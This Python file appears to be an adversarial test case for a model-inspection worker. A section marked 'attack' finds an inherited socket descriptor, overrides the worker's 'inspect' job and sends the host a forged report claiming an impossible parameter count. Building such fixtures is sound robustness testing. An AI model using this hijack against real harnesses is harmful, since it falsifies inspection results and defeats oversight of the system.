"""Cannot become a graph, and claims a number of parameters that no float holds."""

# play: ladder

import json
import os
import socket
import stat
import struct

import torch
from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.body = nn.Linear(64, 300)
        self.head = nn.Linear(300, 10)

    def forward(self, x):
        if float(x.sum()) > 1e9:
            x = -x
        return self.head(torch.relu(self.body(x.flatten(1))))


# attack
def channel():
    """The socket to the host, found among its open descriptors."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return socket.socket(fileno=number)
        except OSError:
            pass
    os._exit(0)


def say(body):
    text = json.dumps({"body": body, "tensors": []}).encode()
    channel().sendall(struct.pack("<4sIQ", b"NMF1", len(text), 0) + text)


from neuromosaic.core.workers import jobs

jobs.JOBS["inspect"] = lambda *_: say({"result": {"parameters": 10 ** 4000, "flops": 1, "peak_memory_mb": 1, "allocated_mb": 1, "outputs": [], "findings": []}}) or os._exit(0)
# end
